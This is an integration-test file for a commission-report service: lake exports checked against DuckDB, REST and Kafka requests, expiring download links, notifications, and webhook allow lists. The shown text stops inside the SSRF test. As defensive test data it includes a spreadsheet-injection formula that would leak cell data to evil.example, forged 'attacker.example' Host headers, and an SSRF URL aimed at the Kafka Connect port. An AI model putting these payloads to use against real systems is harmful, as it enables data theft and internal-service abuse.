import { PutObjectCommand } from '@aws-sdk/client-s3';
import { parse as parseLossless } from 'lossless-json';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { KafkaMessage } from 'kafkajs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createPool } from '../../processors/core/db/pool.js';
import { readDeadLetterHeaders } from '../../processors/core/dlq/dead-letter.js';
import { createS3Client } from '../../processors/core/s3/client.js';
import { createKafka } from '../../processors/core/kafka/client.js';
import { startReports, type RunningReports } from '../../processors/reports/reports.js';
import type { ReportStatus } from '../../processors/reports/status.js';
import { ROOT } from '../support/build.js';
import { ensureCdcConnector } from '../support/cdc.js';
import { collectUntilQuiet } from '../support/consume.js';
import { collect } from '../support/kafka.js';
import { startTestNormalizer } from '../support/normalizer.js';
import {
  AgentEventProducer,
  currentDist,
  exportUntilCommitted,
  generateMonth,
  HAND_COMPUTED,
  LakeSql,
  parseCsv,
  producedTruth,
  REPORT_HEADER,
  SPECIAL,
  type GeneratedMonth,
} from '../support/reports-lake.js';
import { startSmtpCapture, startWebhookCapture } from '../support/reports-notify.js';
import { eventually, hostPortOf, requireServer, testSettings } from '../support/servers.js';

/**
 * Issue 5's acceptance on the real stack: a month of DOMAIN-shaped Avro events exported to
 * the lake by the real export runner (shipped lake.yaml), the report processor + REST
 * shim run in-process with topics, group and prefixes of their own per test, and every
 * report compared cell for cell with an independent computation (DuckDB SQL over the same
 * Parquet objects) and, for the tricky agents, with values computed by hand.
 */

const settings = testSettings();
const run = randomUUID().replace(/-/g, '').slice(0, 8);
const base = `test-reports-${run}`;
const MONTH = '2026-10';
const API_KEY = `reports-it-key-${run}-0123456789`;
const eventsTopic = `test.reports.${run}.events`;
const lakePrefix = `${base}/lake/agent_events/`;
const kafka = createKafka(settings.kafka, { region: settings.s3.region });
const RULES_VERSION = /^version:\s*(\S+)\s*$/m.exec(readFileSync(join(ROOT, 'connectors/reports/commission-rules.yaml'), 'utf8'))![1]!;

let month: GeneratedMonth;
let lake: LakeSql;
/** The independent computation: the report's rows, cell by cell, from DuckDB. */
let expected: string[][];
/**
 * The same rows as a CSV file must hold them: text cells (agent_id, currency) that begin
 * with =, +, -, @, tab or CR carry a leading single quote (DOMAIN.md "Report"); numbers never.
 */
let expectedCsv: string[][];

beforeAll(async () => {
  await requireServer('Kafka', settings.kafka.brokers[0]!);
  await requireServer('Schema registry', hostPortOf(settings.registry.url));
  await requireServer('S3', hostPortOf(settings.s3.endpoint!));

  month = generateMonth(run);
  const producer = new AgentEventProducer(kafka, settings, eventsTopic);
  await producer.setUp(3);
  const lakeExport = { topic: eventsTopic, dlqTopic: `${eventsTopic}.export-dlq`, prefix: lakePrefix, group: `${base}-export` };
  // Two export runs: phase 2 (the rest, late events, re-sent phase-1 events) after a
  // restart, whose dedupe cache starts empty, so duplicates do land in the lake.
  await producer.sendEvents(month.phase1);
  await exportUntilCommitted(kafka, lakeExport);
  await producer.sendEvents(month.phase2);
  await exportUntilCommitted(kafka, lakeExport);
  lake = await LakeSql.download(settings, lakePrefix);
  expected = await lake.report(MONTH);
  expectedCsv = expected.map((r) => r.map((cell, column) => ((column === 0 || column === 9) && /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
}, 150_000);

/**
 * Report processors of the running test, stopped after it. A stop takes ~10 s (each of
 * its two consumers waits out a 5 s fetch), so stops run in the background while the next
 * test starts its own instance (topics and groups differ), and are awaited at the end.
 */
const running: RunningReports[] = [];
const stopping: Promise<void>[] = [];
afterEach(() => {
  while (running.length > 0) stopping.push(running.pop()!.stop());
});

afterAll(async () => {
  const results = await Promise.allSettled(stopping);
  lake?.close();
  const failed = results.filter((r): r is PromiseRejectedResult => r.status === 'rejected');
  if (failed.length > 0) throw new Error(`stopping a report processor failed: ${failed.map((f) => String(f.reason)).join('; ')}`);
}, 60_000);

interface Instance {
  reports: RunningReports;
  requestsTopic: string;
  statusTopic: string;
  dlqTopic: string;
  reportsPrefix: string;
}

/** startReports in this process, with topics, group and report prefix of the test's own, reading the test's lake. */
async function startInstance(name: string, extra: Record<string, string> = {}, start: typeof startReports = startReports): Promise<Instance> {
  const t = `test.reports.${run}.${name}`;
  const instance = {
    requestsTopic: `${t}.requests`,
    statusTopic: `${t}.status`,
    dlqTopic: `${t}.dlq`,
    reportsPrefix: `${base}/reports/${name}/`,
  };
  const reports = await start({
    env: {
      ...process.env,
      SLUICE_LOG_LEVEL: process.env.SLUICE_LOG_LEVEL ?? 'warn',
      SLUICE_REPORTS_API_KEY: API_KEY,
      SLUICE_REPORTS_REQUESTS_TOPIC: instance.requestsTopic,
      SLUICE_REPORTS_STATUS_TOPIC: instance.statusTopic,
      SLUICE_REPORTS_DLQ_TOPIC: instance.dlqTopic,
      SLUICE_REPORTS_GROUP_ID: `${base}-${name}`,
      SLUICE_REPORTS_LAKE_PREFIX: lakePrefix,
      SLUICE_REPORTS_REPORTS_PREFIX: instance.reportsPrefix,
      SLUICE_REPORTS_HTTP_PORT: '0',
      ...extra,
    },
  });
  running.push(reports);
  return { reports, ...instance };
}

interface ApiAnswer {
  status: number;
  body: any;
}

async function api(i: Instance, method: 'GET' | 'POST', path: string, options: { body?: unknown; rawBody?: string; key?: string | null } = {}): Promise<ApiAnswer> {
  const headers: Record<string, string> = {};
  const key = options.key === undefined ? API_KEY : options.key;
  if (key !== null) headers['x-api-key'] = key;
  let body: string | undefined;
  if (options.rawBody !== undefined || options.body !== undefined) {
    headers['content-type'] = 'application/json';
    body = options.rawBody ?? JSON.stringify(options.body);
  }
  const res = await fetch(`${i.reports.url}${path}`, { method, headers, ...(body !== undefined ? { body } : {}) });
  const text = await res.text();
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {
    // not JSON: keep the text
  }
  return { status: res.status, body: parsed };
}

/** POST /reports/generate with a Host (and X-Forwarded-Host) header of our choosing, which fetch does not let us set. */
async function postWithHost(i: Instance, host: string, body: unknown): Promise<ApiAnswer> {
  const payload = JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port: i.reports.port,
        method: 'POST',
        path: '/reports/generate',
        headers: { host, 'x-forwarded-host': host, 'x-forwarded-proto': 'https', 'x-api-key': API_KEY, 'content-type': 'application/json', 'content-length': Buffer.byteLength(payload) },
      },
      (res) => {
        let text = '';
        res.on('data', (c: Buffer) => (text += c.toString('utf8')));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: JSON.parse(text) }));
      },
    );
    req.once('error', reject);
    req.end(payload);
  });
}

/** Polls GET /reports/{id} (as a client would) until succeeded or failed; a failure throws with its reason. */
async function finalState(i: Instance, id: string, timeoutMs = 60_000): Promise<any> {
  const answer = await eventually(
    async () => {
      const a = await api(i, 'GET', `/reports/${encodeURIComponent(id)}`);
      return a.status === 200 && (a.body.state === 'succeeded' || a.body.state === 'failed') ? a : undefined;
    },
    timeoutMs,
    `report ${id} to succeed or fail`,
  );
  if (answer.body.state !== 'succeeded') throw new Error(`report ${id} failed: ${JSON.stringify(answer.body.error)}`);
  return answer.body;
}

async function generate(i: Instance, request: Record<string, unknown>): Promise<ApiAnswer> {
  const answer = await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: MONTH, ...request } });
  expect(answer.status, `POST /reports/generate: ${JSON.stringify(answer.body)}`).toBe(202);
  return answer;
}

async function publishRequest(i: Instance, key: string | null, value: string): Promise<void> {
  const producer = kafka.producer();
  await producer.connect();
  try {
    await producer.send({ topic: i.requestsTopic, acks: -1, messages: [{ key, value }] });
  } finally {
    await producer.disconnect();
  }
}

/** Downloads with plain fetch: no SDK, no credentials, only the link. */
async function download(url: string): Promise<{ status: number; text: string; contentType: string | null }> {
  const res = await fetch(url);
  return { status: res.status, text: await res.text(), contentType: res.headers.get('content-type') };
}

/** Every state published on the status topic for one request, in order. */
async function statesOnTopic(i: Instance, id: string, until: (states: ReportStatus[]) => boolean): Promise<ReportStatus[]> {
  const of = (ms: KafkaMessage[]) => ms.filter((m) => m.key?.toString() === id).map((m) => JSON.parse(m.value!.toString()) as ReportStatus);
  return of(await collect(kafka, i.statusTopic, (ms) => until(of(ms)), 30_000));
}

describe('reports: commission reports from the lake, by topic and REST, with links and notifications', () => {
  it('the lake built by the real export holds the month with duplicates, late and out-of-month events, exactly what was produced', async () => {
    // Duplicates did land in the lake (re-sent after the export restarted), all copies identical.
    const [counts] = await lake.query(`SELECT count(*)::VARCHAR AS rows, count(DISTINCT event_id)::VARCHAR AS ids FROM ${lake.table}`);
    expect(Number(counts!.ids), 'every produced event once in the lake').toBe(month.distinct.length);
    expect(Number(counts!.rows) - Number(counts!.ids), 'copies of re-sent events in the lake').toBeGreaterThanOrEqual(100);
    const [variants] = await lake.query(`
      SELECT count(*)::VARCHAR AS differing FROM (
        SELECT event_id FROM ${lake.table} GROUP BY event_id
        HAVING count(DISTINCT concat_ws('|', event_type, agent_id, customer_id, amount_minor::VARCHAR, epoch_us(occurred_at)::VARCHAR)) > 1)`);
    expect(variants!.differing).toBe('0');
    // Late events of the month (received in December) and events of September and November.
    const [late] = await lake.query(`
      SELECT count(DISTINCT event_id)::VARCHAR AS late FROM ${lake.table}
      WHERE epoch_us(received_at) - epoch_us(occurred_at) > 30 * 86400 * 1000000::BIGINT
        AND strftime(occurred_at, '%Y-%m') = '${MONTH}'`);
    expect(Number(late!.late)).toBe(month.late);
    expect(lake.keys.some((k) => k.includes('/dt=2026-09-')), 'September partitions in the lake').toBe(true);
    expect(lake.keys.some((k) => k.includes('/dt=2026-11-')), 'November partitions in the lake').toBe(true);

    // The independent computation agrees with what was produced (so the lake is complete and the SQL right).
    const truth = producedTruth(month.distinct, MONTH);
    expect(Object.fromEntries(expected.map((r) => [r[0], r.slice(2, 7)]))).toEqual(
      Object.fromEntries([...truth].map(([agent, a]) => [agent, [String(a.events), String(a.customers.size), a.d.toString(), a.w.toString(), a.i.toString()]])),
    );
    // And with the hand-computed agents.
    for (const [agent, cells] of Object.entries(HAND_COMPUTED)) {
      expect(expected.find((r) => r[0] === agent)?.slice(2, 9), agent).toEqual(cells.map(String));
    }
    expect(expected.map((r) => r[0])).not.toContain(SPECIAL.outsideMonth);
  });

  it('CSV by REST: 202 at once, then the file equals the independent DuckDB computation cell for cell', async () => {
    const i = await startInstance('csv');
    const id = `csv-${run}`;
    const accepted = await generate(i, { request_id: id, format: 'csv' });
    // No SLUICE_REPORTS_PUBLIC_URL: the status URL is relative, whatever Host the client sent.
    expect(accepted.body).toEqual({ request_id: id, state: 'queued', status_url: `/reports/${id}` });
    const forged = await postWithHost(i, 'attacker.example:666', { request_id: id, report_type: 'agent_commissions', month: MONTH, format: 'csv' });
    expect(forged.status).toBe(202);
    expect(forged.body.status_url).toBe(`/reports/${id}`);

    const status = await finalState(i, id);
    expect(status.result).toMatchObject({ rows: expected.length, format: 'csv', rules_version: RULES_VERSION });
    expect(status.download.url).toMatch(/^http/);
    const file = await download(status.download.url);
    expect(file.status, file.text).toBe(200);
    expect(file.contentType).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(file.text);
    expect(header).toEqual(REPORT_HEADER);
    expect(rows).toEqual(expectedCsv);

    // The hand-computed agents, in the file itself.
    for (const [agent, cells] of Object.entries(HAND_COMPUTED)) {
      expect(rows.find((r) => r[0] === agent), agent).toEqual([agent, MONTH, ...cells.map(String), 'USD']);
    }
    expect(rows.map((r) => r[0])).not.toContain(SPECIAL.outsideMonth);
    // Code-point order: 'Z' before 'a'; U+FF5E before U+1F600 (UTF-16 order would swap them); a quoted id survives.
    const order = rows.map((r) => r[0]);
    expect(order.indexOf(SPECIAL.upper)).toBeLessThan(order.indexOf('agent-00'));
    expect(order.indexOf(SPECIAL.fullwidth)).toBeLessThan(order.indexOf(SPECIAL.astral));
    expect(order).toContain(SPECIAL.csvQuoted);
    // A formula as agent id is text in a spreadsheet: a leading quote inside a quoted field; a negative net inflow stays a plain number.
    const lines = file.text.split('\n');
    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",${MONTH},1,0,1500,0,0,1500,8,USD`);
    expect(lines.find((l) => l.startsWith(`${SPECIAL.withdrawalsExceed},`))).toBe(`${SPECIAL.withdrawalsExceed},${MONTH},3,0,50000,80000,10000,-20000,100,USD`);
  });

  it('agent_ids limits the report to those agents, with the same cells', async () => {
    const i = await startInstance('agents');
    const id = `agents-${run}`;
    const agents = [SPECIAL.big63, SPECIAL.astral, 'agent-07', SPECIAL.outsideMonth, `agent-nobody-${run}`];
    await generate(i, { request_id: id, agent_ids: agents });
    const status = await finalState(i, id);
    const [header, ...rows] = parseCsv((await download(status.download.url)).text);
    expect(header).toEqual(REPORT_HEADER);
    expect(rows).toEqual(expected.filter((r) => agents.includes(r[0]!)));
    expect(rows.map((r) => r[0])).toEqual(['agent-07', SPECIAL.big63, SPECIAL.astral]); // 's' (U+0073) before U+1F600
    expect(rows).toEqual(await lake.report(MONTH, 'USD', agents));
  });

  it('the compiled processor (as `sluice reports` runs it) reads the month on 2 reader threads and writes the same CSV', async () => {
    // In-process tests run the TypeScript sources, where the reader thread's file does not
    // exist and the month is read on one thread; the build is what the CLI, demo and compose run.
    const monthFiles = lake.keys.filter((k) => k.includes(`/dt=${MONTH}-`)).length;
    expect(monthFiles, 'enough files for 2 threads (48 each)').toBeGreaterThanOrEqual(96);
    const compiled = (await import(pathToFileURL(currentDist('processors/reports/reports.js')).href)) as typeof import('../../processors/reports/reports.js');
    const reader = (await import(pathToFileURL(currentDist('processors/reports/lake-month.js')).href)) as typeof import('../../processors/reports/lake-month.js');
    const before = reader.readerThreadStats().started;
    const i = await startInstance('threads', { SLUICE_REPORTS_READER_THREADS: '2' }, compiled.startReports);
    // Started with the processor, not by the first report: the report uses those two.
    await eventually(async () => (reader.readerThreadStats().ready === 2 ? true : undefined), 20_000, 'two reader threads loaded before any report');
    expect(reader.readerThreadStats()).toEqual({ started: before + 2, alive: 2, ready: 2 });
    const id = `threads-${run}`;
    await generate(i, { request_id: id });
    const status = await finalState(i, id);
    expect(reader.readerThreadStats(), 'the report ran on the two threads started with the processor').toEqual({ started: before + 2, alive: 2, ready: 2 });
    expect(status.result.rows).toBe(expected.length);
    const [header, ...rows] = parseCsv((await download(status.download.url)).text);
    expect(header).toEqual(REPORT_HEADER);
    expect(rows).toEqual(expectedCsv);
  }, 90_000);

  it('JSON: the same rows (exact beyond 2^53), the request and metadata with rules_version; a repeat is answered from the result', async () => {
    const i = await startInstance('json');
    const id = `json-${run}`;
    await generate(i, { request_id: id, format: 'json' });
    const status = await finalState(i, id);
    const file = await download(status.download.url);
    expect(file.status).toBe(200);
    // Numbers kept as their text: no rounding through doubles on our side.
    const doc = parseLossless(file.text, null, (n: string) => n) as { request: Record<string, unknown>; metadata: Record<string, any>; rows: Record<string, string>[] };
    expect(doc.rows.map((r) => REPORT_HEADER.map((c) => r[c]))).toEqual(expected);
    expect(doc.rows.every((r) => Object.keys(r).join(',') === REPORT_HEADER.join(','))).toBe(true);
    expect(doc.metadata).toMatchObject({ rules_version: RULES_VERSION, month: MONTH, currency: 'USD', report_type: 'agent_commissions', columns: REPORT_HEADER, row_count: String(expected.length) });
    expect(Date.parse(doc.metadata.generated_at)).not.toBeNaN();
    expect(doc.metadata.generated_at).toBe(status.result.generated_at);
    expect(doc.request).toMatchObject({ request_id: id, month: MONTH, format: 'json', report_type: 'agent_commissions' });

    // The same request id again (on the topic): answered from the result, the file not rewritten.
    await publishRequest(i, id, JSON.stringify({ request_id: id, report_type: 'agent_commissions', month: MONTH, format: 'json' }));
    const repeated = await i.reports.store.waitFor(id, (s) => s.from_earlier_result === true, 30_000);
    expect(repeated.state).toBe('succeeded');
    expect(repeated.result?.generated_at).toBe(status.result.generated_at);
    const again = await finalState(i, id);
    const second = await download(again.download.url);
    expect(second.text).toBe(file.text);
  });

  it('a request by topic and one by REST give the same CSV bytes; repeating an id returns the same result without recomputing', async () => {
    const i = await startInstance('same');
    const byTopic = `topic-${run}`;
    const byRest = `rest-${run}`;
    await publishRequest(i, byTopic, JSON.stringify({ request_id: byTopic, report_type: 'agent_commissions', month: MONTH, format: 'csv' }));
    await generate(i, { request_id: byRest, format: 'csv' });
    const [topicStatus, restStatus] = [await finalState(i, byTopic), await finalState(i, byRest)];
    expect(topicStatus.request.requested_via).toBe('topic');
    expect(restStatus.request.requested_via).toBe('rest');
    const [a, b] = [await download(topicStatus.download.url), await download(restStatus.download.url)];
    expect(a.status).toBe(200);
    expect(b.status).toBe(200);
    expect(Buffer.from(a.text).equals(Buffer.from(b.text)), 'same bytes').toBe(true);
    expect(parseCsv(a.text).slice(1)).toEqual(expectedCsv);

    // Repeat both ids: by topic (the processor answers from the result) and by REST (the shim answers the known state).
    await publishRequest(i, byTopic, JSON.stringify({ request_id: byTopic, report_type: 'agent_commissions', month: MONTH }));
    const repeated = await i.reports.store.waitFor(byTopic, (s) => s.from_earlier_result === true, 30_000);
    expect(repeated).toMatchObject({ state: 'succeeded', from_earlier_result: true });
    expect(repeated.result?.generated_at).toBe(topicStatus.result.generated_at);
    const restAgain = await api(i, 'POST', '/reports/generate', { body: { request_id: byRest, report_type: 'agent_commissions', month: MONTH } });
    expect(restAgain.status).toBe(202);
    expect(restAgain.body).toMatchObject({ request_id: byRest, state: 'succeeded' });
    expect((await finalState(i, byRest)).result.generated_at).toBe(restStatus.result.generated_at);

    // On the status topic: one run only; the repeat is a succeeded state marked from_earlier_result.
    const states = await statesOnTopic(i, byTopic, (s) => s.some((x) => x.from_earlier_result === true));
    expect(states.map((s) => `${s.state}${s.from_earlier_result ? ' (from earlier result)' : ''}`)).toEqual(['queued', 'running', 'succeeded', 'succeeded (from earlier result)']);
    expect(new Set(states.filter((s) => s.result).map((s) => s.result!.generated_at)).size).toBe(1);
    const again = await download((await finalState(i, byTopic)).download.url);
    expect(again.text).toBe(a.text);
  });

  it('status_url comes from SLUICE_REPORTS_PUBLIC_URL, never from a forged Host header', async () => {
    const i = await startInstance('public-url', { SLUICE_REPORTS_PUBLIC_URL: 'https://reports.example.com/sluice/' });
    const id = `public-url-${run}`;
    const answer = await postWithHost(i, 'attacker.example', { request_id: id, report_type: 'agent_commissions', month: MONTH });
    expect(answer.status).toBe(202);
    expect(answer.body.status_url).toBe(`https://reports.example.com/sluice/reports/${id}`);
    expect(JSON.stringify(answer.body)).not.toContain('attacker');
  });

  it('the download link works with plain fetch and stops working after SLUICE_REPORTS_LINK_EXPIRY_SECONDS', async () => {
    const i = await startInstance('expiry', { SLUICE_REPORTS_LINK_EXPIRY_SECONDS: '2' });
    const id = `expiry-${run}`;
    await generate(i, { request_id: id });
    await finalState(i, id);
    const status = (await api(i, 'GET', `/reports/${id}`)).body;
    const expiresAt = Date.parse(status.download.expires_at);
    expect(expiresAt - Date.now()).toBeGreaterThan(0);
    expect(expiresAt - Date.now()).toBeLessThanOrEqual(2000);
    expect(new URL(status.download.url).searchParams.get('X-Amz-Expires')).toBe('2');
    const fresh = await download(status.download.url);
    expect(fresh.status, fresh.text).toBe(200);
    expect(parseCsv(fresh.text).slice(1)).toEqual(expectedCsv);
    await new Promise((r) => setTimeout(r, expiresAt - Date.now() + 1500));
    const expired = await download(status.download.url);
    expect(expired.status, `an expired link must be refused, got: ${expired.text.slice(0, 300)}`).toBe(403);
  });

  it('bad requests: 400 with field errors, 401 without the key, 404 for an unknown id; malformed topic requests go to the DLQ with reasons', async () => {
    const i = await startInstance('bad');
    expect((await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: MONTH }, key: null })).status).toBe(401);
    expect((await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: MONTH }, key: 'wrong-key-wrong-key-wrong' })).status).toBe(401);
    expect((await api(i, 'GET', `/reports/anything`, { key: null })).status).toBe(401);
    // A key in the query string is refused even beside the right one in the header.
    for (const path of [`/reports/anything?api_key=${API_KEY}`, `/reports/generate?apikey=${API_KEY}`]) {
      const inQuery = await api(i, path.includes('generate') ? 'POST' : 'GET', path, path.includes('generate') ? { body: { report_type: 'agent_commissions', month: MONTH } } : {});
      expect(inQuery.status, path).toBe(400);
      expect(inQuery.body.message).toContain('X-API-Key header');
    }

    const bad = await api(i, 'POST', '/reports/generate', {
      body: { report_type: 'weekly_summary', month: '2026-13', format: 'pdf', agent_ids: [], notify: { email: 'not-an-address', webhook: 'ftp://example.com/x' }, colour: 'red' },
    });
    expect(bad.status).toBe(400);
    const fields = (bad.body.errors as { field: string; code: string; message: string }[]).map((e) => e.field).sort();
    expect(fields).toEqual(['agent_ids', 'colour', 'format', 'month', 'notify.email', 'notify.webhook', 'report_type']);
    for (const e of bad.body.errors) expect(e.message.length, e.field).toBeGreaterThan(0);
    const missing = await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions' } });
    expect(missing.status).toBe(400);
    expect(missing.body.errors).toContainEqual(expect.objectContaining({ field: 'month', code: 'required' }));
    const notJson = await api(i, 'POST', '/reports/generate', { rawBody: '{"month": ' });
    expect(notJson.status).toBe(400);
    const unknown = await api(i, 'GET', `/reports/no-such-request-${run}`);
    expect(unknown.status).toBe(404);
    expect(unknown.body.error).toBe('not_found');

    // Nothing refused by the shim reached the requests topic.
    const admin = kafka.admin();
    await admin.connect();
    const ends = await admin.fetchTopicOffsets(i.requestsTopic).finally(() => admin.disconnect());
    expect(ends.reduce((n, p) => n + Number(p.high), 0)).toBe(0);

    // On the topic: not JSON, invalid fields, not an object; then a valid one (the processor goes on).
    const malformed = [
      { value: 'this is { not JSON', reason: 'malformed_json' },
      { value: JSON.stringify({ request_id: `bad-month-${run}`, report_type: 'agent_commissions', month: '2026-13' }), reason: 'invalid_request' },
      { value: JSON.stringify([MONTH]), reason: 'invalid_request' },
    ];
    for (const m of malformed) await publishRequest(i, `bad-${run}`, m.value);
    const after = `after-bad-${run}`;
    await publishRequest(i, after, JSON.stringify({ request_id: after, report_type: 'agent_commissions', month: MONTH }));
    const deadLetters = await collect(kafka, i.dlqTopic, (ms) => ms.length >= malformed.length, 30_000);
    expect(deadLetters).toHaveLength(malformed.length);
    for (const [n, m] of malformed.entries()) {
      const dl = deadLetters.find((d) => d.value?.toString() === m.value);
      expect(dl, `dead letter of ${m.value}`).toBeDefined();
      const info = readDeadLetterHeaders(dl!.headers);
      expect(info, `sluice.dlq.* headers on dead letter ${n}`).toMatchObject({ reason: m.reason, topic: i.requestsTopic, processor: 'reports' });
      expect(dl!.key?.toString()).toBe(`bad-${run}`);
    }
    const monthError = readDeadLetterHeaders(deadLetters.find((d) => d.value?.toString() === malformed[1]!.value)!.headers)!.error;
    expect(monthError).toContain('month');
    expect(parseCsv((await download((await finalState(i, after)).download.url)).text).slice(1)).toEqual(expectedCsv);
    expect(i.reports.store.get(`bad-month-${run}`)).toBeUndefined();

    // A request that cannot be computed (a month whose lake holds an object that is not Parquet) ends as failed, with a reason.
    const s3 = createS3Client(settings.s3);
    await s3.send(new PutObjectCommand({ Bucket: settings.s3.bucket, Key: `${lakePrefix}event_type=deposit_made/dt=2026-07-01/not-parquet.parquet`, Body: 'not a parquet file' }));
    s3.destroy();
    const broken = `broken-${run}`;
    await generate(i, { request_id: broken, month: '2026-07' });
    const failed = await eventually(
      async () => {
        const a = await api(i, 'GET', `/reports/${broken}`);
        return a.body.state === 'failed' || a.body.state === 'succeeded' ? a.body : undefined;
      },
      30_000,
      `report ${broken} to end`,
    );
    expect(failed.state).toBe('failed');
    expect(failed.error).toMatchObject({ reason: 'generation_failed' });
    expect(String(failed.error.message).length).toBeGreaterThan(0);
    expect(failed.download).toBeUndefined();
  });

  it('notifications: the email (real SMTP server) and the Slack-style webhook arrive with the link, recorded in the status', async () => {
    const smtp = await startSmtpCapture();
    const hook = await startWebhookCapture(`/services/T000/B000/secret-${run}`);
    try {
      // The receivers run on this machine: allowed by host and by network, as an internal receiver must be.
      const i = await startInstance('notify', {
        SLUICE_REPORTS_SMTP_URL: smtp.url,
        SLUICE_REPORTS_MAIL_FROM: 'Sluice reports <reports@sluice.test>',
        SLUICE_REPORTS_WEBHOOK_ALLOWED_HOSTS: '127.0.0.1',
        SLUICE_REPORTS_WEBHOOK_ALLOWED_NETWORKS: '127.0.0.1/32',
      });
      const id = `notify-${run}`;
      await generate(i, { request_id: id, notify: { email: ['finance@example.com', 'ops@example.com'], webhook: hook.url } });
      const status = await finalState(i, id);
      expect(status.notifications).toEqual([
        { channel: 'email', target: 'finance@example.com, ops@example.com', ok: true },
        { channel: 'webhook', target: `${new URL(hook.url).origin}/…`, ok: true },
      ]);

      await eventually(async () => (smtp.mails.length > 0 ? true : undefined), 10_000, 'the email at the SMTP server');
      expect(smtp.mails).toHaveLength(1);
      const { mail, envelopeTo, envelopeFrom } = smtp.mails[0]!;
      expect(envelopeTo.sort()).toEqual(['finance@example.com', 'ops@example.com']);
      expect(envelopeFrom).toBe('reports@sluice.test');
      expect(mail.subject).toContain(MONTH);
      expect(mail.attachments, 'a link, never the file').toHaveLength(0);
      const mailLink = /https?:\/\/\S+/.exec(mail.text ?? '')?.[0];
      expect(mailLink, `a link in the email text: ${mail.text}`).toBeDefined();
      expect(mail.text).not.toContain('agent_id,month');
      const viaMail = await download(mailLink!);
      expect(viaMail.status, viaMail.text).toBe(200);
      expect(parseCsv(viaMail.text).slice(1)).toEqual(expectedCsv);

      expect(hook.calls).toHaveLength(1);
      const call = hook.calls[0]!;
      expect(call.path).toBe(new URL(hook.url).pathname);
      expect(call.contentType).toMatch(/^application\/json/);
      const payload = JSON.parse(call.body) as { text: string; url: string };
      expect(typeof payload.text).toBe('string');
      const hookLink = /https?:\/\/\S+/.exec(payload.text)?.[0];
      expect(hookLink, `a link in the webhook text: ${payload.text}`).toBeDefined();
      const viaHook = await download(hookLink!);
      expect(viaHook.status, viaHook.text).toBe(200);
      expect(viaHook.text).toBe(viaMail.text);
      // The webhook URL (its path is the secret) is shown by its origin only: in GET, on report-status, in the notifications.
      expect(status.request.notify).toEqual({ email: ['finance@example.com', 'ops@example.com'], webhook: `${new URL(hook.url).origin}/…` });
      expect(JSON.stringify(status)).not.toContain(`secret-${run}`);
      const published = await statesOnTopic(i, id, (states) => states.some((x) => x.state === 'succeeded'));
      expect(published.map((x) => x.state)).toEqual(expect.arrayContaining(['queued', 'running', 'succeeded']));
      for (const state of published) expect(JSON.stringify(state), state.state).not.toContain(`secret-${run}`);

      // A target that cannot be reached does not fail the report: the outcome says why.
      const unreachable = `notify-unreachable-${run}`;
      await generate(i, { request_id: unreachable, notify: { webhook: 'http://127.0.0.1:1/hook' } });
      const done = await finalState(i, unreachable);
      expect(done.notifications).toEqual([{ channel: 'webhook', target: 'http://127.0.0.1:1/…', ok: false, error: 'connection failed: ECONNREFUSED' }]);
      expect(smtp.mails).toHaveLength(1);

      // A redirect is not followed (its target gets nothing); an answer's body is never stored or returned.
      const inside = await startWebhookCapture(`/inside-${run}`);
      const redirecting = await startWebhookCapture('/hook', { status: 307, headers: { location: inside.url }, body: 'moved' });
      const failing = await startWebhookCapture('/hook', { status: 500, body: `internal-answer-${run}` });
      try {
        const redirected = `notify-redirect-${run}`;
        await generate(i, { request_id: redirected, month: '2026-12', notify: { webhook: redirecting.url } });
        expect((await finalState(i, redirected)).notifications).toEqual([{ channel: 'webhook', target: `${new URL(redirecting.url).origin}/…`, ok: false, error: 'answered 307: redirects are not followed' }]);
        expect(redirecting.calls).toHaveLength(1);
        expect(inside.calls).toHaveLength(0);
        const answered = `notify-answer-${run}`;
        await generate(i, { request_id: answered, month: '2026-12', notify: { webhook: failing.url } });
        const withAnswer = await finalState(i, answered);
        expect(withAnswer.notifications).toEqual([{ channel: 'webhook', target: `${new URL(failing.url).origin}/…`, ok: false, error: 'answered 500' }]);
        expect(failing.calls).toHaveLength(1);
        expect(JSON.stringify(withAnswer)).not.toContain(`internal-answer-${run}`);
        expect(JSON.stringify(i.reports.store.get(answered))).not.toContain(`internal-answer-${run}`);
      } finally {
        await Promise.all([inside.close(), redirecting.close(), failing.close()]);
      }
    } finally {
      await smtp.close();
      await hook.close();
    }
  });

  it('webhooks: none without an allow list; an SSRF attempt at the Kafka Connect REST port is refused and Connect receives nothing', async () => {
    const connect = new URL(settings.connect.url);
    const connectLog = join(process.env.SLUICE_STATE_DIR ?? join(ROOT, '.sluice'), 'logs', 'connect.log');
    const logged = (marker: string) => readFileSync(connectLog, 'utf8').includes(marker);
    // Connect logs every REST request it receives (its request log): a control request shows up there.
    await fetch(`${connect.origin}/connectors?sluice-ssrf-control=${run}`);
    await eventually(async () => (logged(`sluice-ssrf-control=${run}`) ? true : undefined), 10_000, 'the control request in the Kafka Connect request log');

    // The default: no webhook hosts at all. The shim refuses at once; a request by topic gets a refused outcome.
    const closed = await startInstance('webhooks-default');
    const refused = await api(closed, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: '2026-12', notify: { webhook: 'https://hooks.slack.com/services/T/B/x' } } });
    expect(refused.status).toBe(400);
    expect(refused.body.errors).toEqual([expect.objectContaining({ field: 'notify.webhook', code: 'not_allowed' })]);
    const byTopic = `ssrf-default-${run}`;
    const ssrfUrl = `http://127.0.0.1:${connect.port}/connectors?sluice-ssrf=${run}`;
    await publishRequest(closed, byTopic, JSON.stringify({ request_id: byTopic, report_type: 'agent_commissions', month: '2026-12', notify: { webhook: ssrfUrl } }));
    expect((await finalState(closed, byTopic)).notifications).toEqual([{ channel: 'webhook', target: `http://127.0.0.1:${connect.port}/…`, ok: false, error: 'refused: the host is not on the allow list' }]);

    // Even with the host listed, a loopback, private or link-local address is refused unless its network is allowed.
